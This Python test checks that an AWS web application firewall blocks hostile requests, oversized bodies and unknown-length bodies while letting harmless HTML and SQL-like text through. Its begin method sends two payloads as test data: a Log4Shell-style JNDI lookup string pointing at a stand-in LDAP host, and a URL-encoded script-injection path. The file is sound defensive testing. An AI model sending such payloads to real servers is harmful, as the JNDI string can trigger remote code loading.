"""The check of what the firewall refuses by content and size, and what it must not."""

import json
from collections import Counter
from datetime import timedelta
from typing import NamedTuple

from tools.prove.model import Check, Verdict
from tools.prove.place import Place

LARGE = 1_048_577
"""One byte more than the service takes."""
UNDECLARED = 40_000
WANTED = (
    "AWSManagedRulesCommonRuleSet",
    "AWSManagedRulesKnownBadInputsRuleSet",
    "BodyTooLarge",
    "BodyOfUnknownSize",
)
"""The rules that must have ended a request, by the firewall's own log."""
HONEST = "<b>O'Hara</b> says: SELECT * FROM notes WHERE 1=1 -- see ../docs"


class Seen(NamedTuple):
    """The deeds of the firewall.

    Attributes:
        statuses: the answers, by what was sent.
        ended_by: how many requests each rule has ended, by its log.
    """

    statuses: dict[str, int]
    ended_by: Counter[str]


class FirewallContent(Check[Seen]):
    """Requests that the firewall must refuse, and one that it must let pass."""

    name = "firewall-content"
    proves = (
        "The firewall refuses scripts in paths, known exploits and bodies over 1 MiB, "
        "and lets honest text through, HTML and SQL included."
    )
    how = "sends one of each; the firewall's log names the rule that ended it"
    needs_aws = "the emulator keeps a web ACL and inspects nothing"
    patience = timedelta(seconds=150)
    uses = {"gateway_request": 5, "firewall_request": 5}

    def __init__(self) -> None:
        """Begin without answers."""
        self._statuses: dict[str, int] = {}

    def begin(self, place: Place) -> None:
        """Send each."""
        headers = {"Content-Type": "application/json"}
        exploit = {"User-Agent": "${jndi:ldap://192.0.2.1/a}"}
        script = "/items/%3Cscript%3Ealert(1)%3C/script%3E"
        large, item = b"x" * LARGE, {"title": "Honest", "description": HONEST}
        answers = {
            "script": place.ask("GET", script),
            "exploit": place.ask("GET", "/items", headers=exploit),
            "large": place.ask("POST", "/items", large, headers),
            "undeclared": place.ask(
                "POST", "/items", b"x" * UNDECLARED, headers, chunked=True
            ),
            "honest": place.ask("POST", "/items", item, place.person.headers),
        }
        self._statuses = {name: answer.status for name, answer in answers.items()}

    def gather(self, place: Place) -> Seen:
        """Return the answers, and the rules that ended requests."""
        group = f"aws-waf-logs-backend-{place.stage.name}"
        ended = Counter(
            str(json.loads(line).get("terminatingRuleId", ""))
            for line in place.logged(group, '"BLOCK"')
        )
        return Seen(self._statuses, ended)

    def judge(self, evidence: Seen) -> Verdict:
        """Want each refused by its own rule, and the honest text stored."""
        wrong = [
            f"{name} {evidence.statuses.get(name)}"
            for name, status in {
                "script": 403,
                "exploit": 403,
                "large": 413,
                "undeclared": 411,
                "honest": 201,
            }.items()
            if evidence.statuses.get(name) != status
        ]
        wrong += [f"no block by {rule}" for rule in WANTED if rule not in evidence[1]]
        detail = "; ".join(wrong) or f"blocked by {', '.join(WANTED)}"
        return Verdict(not wrong, detail)
